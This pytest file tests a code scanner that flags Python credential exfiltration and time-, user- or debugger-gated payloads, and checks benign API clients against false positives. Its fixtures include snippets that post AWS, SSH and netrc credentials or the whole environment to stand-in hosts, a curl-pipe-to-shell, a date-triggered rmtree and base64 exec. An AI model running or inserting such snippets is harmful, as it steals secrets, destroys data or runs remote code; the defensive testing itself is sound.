"""Python taint across functions and gated payloads: what must be found, and the honest code
(API clients, subprocess environments, quiet hours) that must not be."""

from __future__ import annotations

import pytest

from tank.scanner import scan_files


def _rules(source: str, *, serious: bool = True) -> set[str]:
    findings = scan_files({"scripts/tool.py": source.encode()}).findings
    return {f.rule for f in findings if not serious or f.severity not in ("low", "info")}


EXFIL = [
    # a helper returns a credential file; another function posts what it returns
    """
import os, requests
def creds():
    with open(os.path.expanduser('~/.aws/credentials')) as fh:
        return fh.read()
def sync():
    requests.post('https://x.example-cdn.io', data=creds())
""",
    # a helper sends its argument; the caller hands it the environment
    """
import os, json, urllib.request
def ship(payload):
    body = json.dumps(payload).encode()
    urllib.request.urlopen('https://x.example-cdn.io', body)
def main():
    ship(dict(os.environ))
""",
    # helpers of helpers: collect() -> gather() -> post
    """
import os, httpx
def gather():
    return {'env': os.environ.copy()}
def collect():
    data = gather()
    return data
def report():
    httpx.post('https://x.example-cdn.io', json=collect())
""",
    # the container is filled by a method call, not an assignment
    """
import os, requests
def report():
    ctx = {'v': 1}
    ctx.update(os.environ)
    requests.put('https://x.example-cdn.io', json=ctx)
""",
    # a module-level read used inside a function
    """
import requests
KEY = open('/home/u/.ssh/id_ed25519').read()
def ping():
    requests.post('https://x.example-cdn.io', data={'k': KEY})
""",
    # three or more secrets gathered into one value (a harvest)
    """
import os, requests
def beacon():
    blob = {'a': os.environ['GITHUB_TOKEN'], 'b': os.environ['NPM_TOKEN'],
            'c': os.environ['OPENAI_API_KEY']}
    requests.post('https://x.example-cdn.io', json=blob)
""",
    # credentials handed to curl
    """
import os, subprocess
def up():
    path = os.path.expanduser('~/.netrc')
    subprocess.run(['curl', '-s', '-F', 'f=@' + path, 'https://x.example-drop.io'])
""",
]


@pytest.mark.parametrize("source", EXFIL)
def test_secrets_reaching_the_network_are_found(source: str) -> None:
    assert "python.exfiltration" in _rules(source)


HONEST = [
    # a token helper used in a header: the most common API client there is
    """
import os, requests
def token():
    return os.environ['GITHUB_TOKEN']
def issues(repo):
    return requests.get(f'https://api.github.com/repos/{repo}/issues',
                        headers={'Authorization': f'Bearer {token()}'}).json()
""",
    # basic auth with a key and its secret
    """
import os, requests
def call():
    return requests.post('https://api.mailer.dev/v3/send',
                         auth=(os.environ['MAILER_API_KEY'], os.environ['MAILER_API_SECRET']),
                         json={'to': 'a@b.c'})
""",
    # the environment copied for a child process (LibreOffice helpers do this)
    """
import os, subprocess
def soffice_env():
    env = os.environ.copy()
    env['SAL_USE_VCLPLUGIN'] = 'svp'
    return env
def convert(path):
    return subprocess.run(['soffice', '--headless', '--convert-to', 'pdf', path], env=soffice_env())
""",
    # cloud SDK clients built from declared credentials
    """
import os, boto3
def client():
    return boto3.client('s3', aws_access_key_id=os.environ['AWS_ACCESS_KEY_ID'],
                        aws_secret_access_key=os.environ['AWS_SECRET_ACCESS_KEY'],
                        aws_session_token=os.environ.get('AWS_SESSION_TOKEN'))
def upload(path):
    client().upload_file(path, 'bucket', 'key')
""",
    # a generic sender used with ordinary data
    """
import requests
def send(payload):
    return requests.post('https://hooks.acme.dev/x', json=payload)
def main(rows):
    send({'rows': len(rows), 'cookies policy': 'accepted'})
""",
]


@pytest.mark.parametrize("source", HONEST)
def test_honest_clients_are_not_exfiltration(source: str) -> None:
    assert "python.exfiltration" not in _rules(source)


GATED = [
    """
import datetime, shutil
if datetime.date.today() > datetime.date(2026, 6, 1):
    shutil.rmtree('/srv/data')
""",
    """
import time, os
if time.time() > 1767225600:
    os.system('curl -s https://x.example-cdn.io/p | sh')
""",
    """
import getpass, requests
user = getpass.getuser()
if user == 'alice':
    requests.get('https://x.example-cdn.io/t')
""",
    """
import sys, os, base64
if sys.gettrace() is None:
    exec(base64.b64decode(os.environ.get('X', '')))
""",
]


@pytest.mark.parametrize("source", GATED)
def test_gated_payloads_are_found(source: str) -> None:
    assert "python.gated_payload" in _rules(source)


NOT_GATED = [
    # elapsed time
    "import time, requests\nt0 = time.time()\nwhile time.time() - t0 < 10:\n"
    "    requests.get('https://api.acme.dev')\n",
    # cache expiry stored in a variable
    "import time, requests\ndef f(expires):\n    if time.time() > expires:\n"
    "        requests.post('https://auth.acme.dev/token')\n",
    # quiet hours around an ordinary request
    "import datetime, requests\nif datetime.datetime.now().hour >= 9:\n"
    "    requests.post('https://hooks.acme.dev', json={'t': 'hi'})\n",
    # CI switch around ordinary work
    "import os, subprocess\nif not os.environ.get('CI'):\n"
    "    subprocess.run(['open', 'report.html'])\n",
    # platform checks are not identity checks
    "import sys, subprocess\nif sys.platform == 'darwin':\n"
    "    subprocess.run(['brew', 'install', 'jq'])\n",
    # production-only alerts: a prefix of the host name picks a kind of machine
    "import socket, requests\nif socket.gethostname().startswith('prod-'):\n"
    "    requests.post('https://hooks.acme.dev', json={'text': 'deployed'})\n",
    # a deprecation warning after a date
    "import datetime, warnings\nif datetime.date.today() > datetime.date(2025, 1, 1):\n"
    "    warnings.warn('use v2')\n",
]


@pytest.mark.parametrize("source", NOT_GATED)
def test_ordinary_conditions_are_not_gates(source: str) -> None:
    assert "python.gated_payload" not in _rules(source)


def test_an_environ_alias_is_followed_but_not_mistaken_for_a_copy() -> None:
    header = (
        "import os, requests\nenv = os.environ\n"
        "requests.get('https://api.acme.dev', headers={'Authorization': env['ACME_TOKEN']})\n"
    )
    assert "python.exfiltration" not in _rules(header)
    dump = (
        "import os, json, requests\nenv = os.environ\n"
        "requests.post('https://x.example-cdn.io', data=json.dumps(env))\n"
    )
    assert "python.exfiltration" in _rules(dump)
    spread = "import os, requests\nrequests.post('https://x.example-cdn.io', json={**os.environ})\n"
    assert "python.exfiltration" in _rules(spread)
